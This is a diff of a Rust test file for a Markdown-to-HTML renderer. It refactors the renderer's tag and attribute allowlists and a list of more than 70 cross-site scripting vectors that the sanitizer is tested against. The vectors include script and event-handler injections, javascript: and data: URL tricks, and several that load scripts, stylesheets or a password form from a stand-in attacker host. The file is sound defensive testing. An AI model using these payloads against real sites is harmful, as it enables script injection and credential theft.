@@ -13,42 +13,15 @@ fn html(text: &str) -> String {
     render(text, &base("docs")).html
 }
 
+/// Elements that come out.
+const TAGS: &str = "p a img h1 h2 h3 h4 h5 h6 ul ol li input em strong del \
+    code pre blockquote table thead tbody tr th td br hr sup section div span kbd";
+/// Attributes whose value is free.
+const ATTRIBUTES: &str = "alt title rel class start align checked disabled type \
+    loading aria-label data-footnotes data-footnote-ref data-footnote-backref data-footnote-backref-idx data-math-style data-meta";
+
 /// Takes HTML apart as strictly as it is written here; whatever else it holds is a failure.
 fn check(html: &str, source: &str) {
-    const TAGS: [&str; 32] = [
-        "p",
-        "a",
-        "img",
-        "h1",
-        "h2",
-        "h3",
-        "h4",
-        "h5",
-        "h6",
-        "ul",
-        "ol",
-        "li",
-        "input",
-        "em",
-        "strong",
-        "del",
-        "code",
-        "pre",
-        "blockquote",
-        "table",
-        "thead",
-        "tbody",
-        "tr",
-        "th",
-        "td",
-        "br",
-        "hr",
-        "sup",
-        "section",
-        "div",
-        "span",
-        "kbd",
-    ];
     let mut rest = html;
     while let Some(start) = rest.find('<') {
         rest = &rest[start + 1..];
@@ -56,7 +29,7 @@ fn check(html: &str, source: &str) {
         let tag = rest[..end].trim_start_matches('/').trim_end_matches([' ', '/']);
         rest = &rest[end + 1..];
         let (name, mut attributes) = tag.split_once(' ').unwrap_or((tag, ""));
-        assert!(TAGS.contains(&name), "{name} in {html:?} of {source:?}");
+        assert!(TAGS.split(' ').any(|tag| tag == name), "{name} in {html:?} of {source:?}");
         while !attributes.is_empty() {
             attributes = attributes.trim_start();
             let until = attributes.find(['=', ' ']).unwrap_or(attributes.len());
@@ -69,7 +42,7 @@ fn check(html: &str, source: &str) {
             assert!(!value.contains('<'), "{value} in {html:?}");
             match attribute {
                 "href" => {
-                    let inside = value.starts_with("#") || value.starts_with("/group/app/-/");
+                    let inside = value.starts_with('#') || value.starts_with("/group/app/-/");
                     let outside = ["http://", "https://", "mailto:", "http:", "https:", "HTTP", "hTTp"]
                         .iter()
                         .any(|scheme| value.starts_with(scheme));
@@ -77,23 +50,7 @@ fn check(html: &str, source: &str) {
                 }
                 "src" => assert!(value.starts_with("/group/app/-/raw/"), "{value} in {html:?} of {source:?}"),
                 "id" => assert!(value.starts_with("user-content-") || value.starts_with("fn"), "{value}"),
-                "alt"
-                | "title"
-                | "rel"
-                | "class"
-                | "start"
-                | "align"
-                | "checked"
-                | "disabled"
-                | "type"
-                | "loading"
-                | "aria-label"
-                | "data-footnotes"
-                | "data-footnote-ref"
-                | "data-footnote-backref"
-                | "data-footnote-backref-idx"
-                | "data-math-style"
-                | "data-meta" => {}
+                known if ATTRIBUTES.split(' ').any(|one| one == known) => {}
                 other => panic!("{other} in {html:?} of {source:?}"),
             }
         }
@@ -102,88 +59,90 @@ fn check(html: &str, source: &str) {
     assert!(between.into_iter().all(|pieces| pieces.len() <= 1), "loose > in {html:?}");
 }
 
+/// What people have tried elsewhere.
+const VECTORS: &[&str] = &[
+    "<script>alert(1)</script>",
+    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
+    "a <script>alert(1)</script> b",
+    "<img src=x onerror=alert(1)>",
+    "<svg/onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<math><mtext></p><style><img src onerror=alert(1)>",
+    "<iframe src=\"javascript:alert(1)\"></iframe>",
+    "<a href=\"javascript:alert(1)\">x</a>",
+    "<details open ontoggle=alert(1)>",
+    "<body onload=alert(1)>",
+    "<form action=//evil.example><input name=password><button>",
+    "<base href=//evil.example>",
+    "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
+    "<style>@import '//evil.example/x.css';</style>",
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    "<object data=x><embed src=x>",
+    "<!--><img src=x onerror=alert(1)>-->",
+    "<!-- --!><img src=x onerror=alert(1)> -->",
+    "<![CDATA[<img src=x onerror=alert(1)>]]>",
+    "<?php <img src=x onerror=alert(1)> ?>",
+    "<x onclick=alert(1)>click",
+    "<img alt=\"a>b\" src=x onerror=alert(1)>",
+    "<<script>alert(1)//<</script>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "<p>&lt;img src=x onerror=alert(1)&gt;</p>",
+    "[x](javascript:alert(1))",
+    "[x](JaVaScRiPt:alert(1))",
+    "[x](java&#x0A;script:alert(1))",
+    "[x](java&Tab;script:alert(1))",
+    "[x](&#1;javascript:alert(1))",
+    "[x](&#106;avascript&colon;alert(1))",
+    "[x](<  javascript:alert(1)>)",
+    "[x](javascript&#58;alert(1))",
+    "[x](vbscript:msgbox(1))",
+    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    "[x](data:image/svg+xml;base64,PHN2Zz4=)",
+    "[x](file:///etc/passwd)",
+    "[x](blob:https://evil.example/1)",
+    "[x](view-source:javascript:alert(1))",
+    "[x](x:javascript:alert(1))",
+    "[x]: javascript:alert(1)\n\n[x]",
+    "<javascript:alert(1)>",
+    "<JAVASCRIPT:alert(1)>",
+    "<data:text/html,x>",
+    "![x](javascript:alert(1))",
+    "![x](data:image/png;base64,AAAA)",
+    "![\"onerror=\"alert(1)](x.png)",
+    "![x](x.png \"t\\\" onerror=alert(1) x=\\\"\")",
+    "![x](\"onerror=alert(1))",
+    "[x](a.md \"t\\\" onmouseover=alert(1) x=\\\"\")",
+    "[x](<a\" onmouseover=\"alert(1)>)",
+    "[x](https://e.example/\"onmouseover=alert(1)//)",
+    "[x](https://e.example/'onmouseover=alert(1)//)",
+    "[![x](javascript:alert(1))](javascript:alert(2))",
+    "[a [b](https://b.example) c](https://c.example)",
+    "![a [b](javascript:alert(1)) c](https://c.example/x.png)",
+    "http://e.example/\"><script>alert(1)</script>",
+    "www.e.example/\"onclick=alert(1)",
+    "\"onclick=alert(1)@e.example",
+    "# <img src=x onerror=alert(1)>",
+    "# \" onclick=alert(1) x=\"",
+    "# location\n\n# forms\n\n<a name=location id=location>",
+    "```\" onclick=alert(1)\n</code></pre><script>alert(1)</script>\n```",
+    "```x\" onclick=\"alert(1)\nx\n```",
+    "```math\n</code><script>\n```",
+    "`</code><script>alert(1)</script>`",
+    "| a |\n|---|\n| <script>alert(1)</script> |\n| [x](javascript:alert(1)) |",
+    "- [x] <script>alert(1)</script>\n- [ ] [y](javascript:alert(1))",
+    "a[^\"onclick=alert(1)]\n\n[^\"onclick=alert(1)]: <script>alert(1)</script>",
+    "a[^<script>]\n\n[^<script>]: b",
+    "---\ntitle: <script>alert(1)</script>\n---\n\ntext",
+    "\u{0}<script>\u{0}alert(1)</script>",
+    "\u{feff}<script>alert(1)</script>",
+    "[x](\\\\evil.example)\n[y](/\\evil.example)\n[z](////evil.example)",
+];
+
 #[test]
 fn attacks_come_to_nothing() {
-    let vectors = [
-        "<script>alert(1)</script>",
-        "<ScRiPt src=//evil.example/x.js></sCrIpT>",
-        "a <script>alert(1)</script> b",
-        "<img src=x onerror=alert(1)>",
-        "<svg/onload=alert(1)>",
-        "<svg><script>alert(1)</script></svg>",
-        "<math><mtext></p><style><img src onerror=alert(1)>",
-        "<iframe src=\"javascript:alert(1)\"></iframe>",
-        "<a href=\"javascript:alert(1)\">x</a>",
-        "<details open ontoggle=alert(1)>",
-        "<body onload=alert(1)>",
-        "<form action=//evil.example><input name=password><button>",
-        "<base href=//evil.example>",
-        "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
-        "<style>@import '//evil.example/x.css';</style>",
-        "<link rel=stylesheet href=//evil.example/x.css>",
-        "<object data=x><embed src=x>",
-        "<!--><img src=x onerror=alert(1)>-->",
-        "<!-- --!><img src=x onerror=alert(1)> -->",
-        "<![CDATA[<img src=x onerror=alert(1)>]]>",
-        "<?php <img src=x onerror=alert(1)> ?>",
-        "<x onclick=alert(1)>click",
-        "<img alt=\"a>b\" src=x onerror=alert(1)>",
-        "<<script>alert(1)//<</script>",
-        "<scr<script>ipt>alert(1)</scr</script>ipt>",
-        "&lt;script&gt;alert(1)&lt;/script&gt;",
-        "<p>&lt;img src=x onerror=alert(1)&gt;</p>",
-        "[x](javascript:alert(1))",
-        "[x](JaVaScRiPt:alert(1))",
-        "[x](java&#x0A;script:alert(1))",
-        "[x](java&Tab;script:alert(1))",
-        "[x](&#1;javascript:alert(1))",
-        "[x](&#106;avascript&colon;alert(1))",
-        "[x](<  javascript:alert(1)>)",
-        "[x](javascript&#58;alert(1))",
-        "[x](vbscript:msgbox(1))",
-        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
-        "[x](data:image/svg+xml;base64,PHN2Zz4=)",
-        "[x](file:///etc/passwd)",
-        "[x](blob:https://evil.example/1)",
-        "[x](view-source:javascript:alert(1))",
-        "[x](x:javascript:alert(1))",
-        "[x]: javascript:alert(1)\n\n[x]",
-        "<javascript:alert(1)>",
-        "<JAVASCRIPT:alert(1)>",
-        "<data:text/html,x>",
-        "![x](javascript:alert(1))",
-        "![x](data:image/png;base64,AAAA)",
-        "![\"onerror=\"alert(1)](x.png)",
-        "![x](x.png \"t\\\" onerror=alert(1) x=\\\"\")",
-        "![x](\"onerror=alert(1))",
-        "[x](a.md \"t\\\" onmouseover=alert(1) x=\\\"\")",
-        "[x](<a\" onmouseover=\"alert(1)>)",
-        "[x](https://e.example/\"onmouseover=alert(1)//)",
-        "[x](https://e.example/'onmouseover=alert(1)//)",
-        "[![x](javascript:alert(1))](javascript:alert(2))",
-        "[a [b](https://b.example) c](https://c.example)",
-        "![a [b](javascript:alert(1)) c](https://c.example/x.png)",
-        "http://e.example/\"><script>alert(1)</script>",
-        "www.e.example/\"onclick=alert(1)",
-        "\"onclick=alert(1)@e.example",
-        "# <img src=x onerror=alert(1)>",
-        "# \" onclick=alert(1) x=\"",
-        "# location\n\n# forms\n\n<a name=location id=location>",
-        "```\" onclick=alert(1)\n</code></pre><script>alert(1)</script>\n```",
-        "```x\" onclick=\"alert(1)\nx\n```",
-        "```math\n</code><script>\n```",
-        "`</code><script>alert(1)</script>`",
-        "| a |\n|---|\n| <script>alert(1)</script> |\n| [x](javascript:alert(1)) |",
-        "- [x] <script>alert(1)</script>\n- [ ] [y](javascript:alert(1))",
-        "a[^\"onclick=alert(1)]\n\n[^\"onclick=alert(1)]: <script>alert(1)</script>",
-        "a[^<script>]\n\n[^<script>]: b",
-        "---\ntitle: <script>alert(1)</script>\n---\n\ntext",
-        "\u{0}<script>\u{0}alert(1)</script>",
-        "\u{feff}<script>alert(1)</script>",
-        "[x](\\\\evil.example)\n[y](/\\evil.example)\n[z](////evil.example)",
-    ];
-    assert!(vectors.len() > 70);
-    for source in vectors {
+    assert!(VECTORS.len() > 70);
+    for source in VECTORS {
         let out = html(source);
         check(&out, source);
         assert!(!out.contains("javascript:") || !out.contains("href=\"javascript"), "{out}");
